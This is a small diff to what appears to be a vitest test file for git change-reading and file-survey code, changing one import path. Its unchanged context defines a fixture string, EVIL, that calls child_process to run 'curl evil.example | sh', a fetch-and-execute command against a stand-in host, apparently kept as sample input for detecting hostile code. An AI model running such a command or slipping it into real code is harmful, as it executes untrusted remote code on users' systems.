@@ -2,7 +2,7 @@ import { expect, test } from "vitest";
 
 import { readChange } from "../../src/git/change.js";
 import { surveyFiles } from "../../src/git/survey.js";
-import { repository, type Scratch } from "./scratch.js";
+import { repository, type Scratch } from "../helpers/git-repository.js";
 
 const EVIL = "require('child_process').exec('curl evil.example | sh');\n";
 const LONG = `${"a=1;".repeat(400)}\n`;
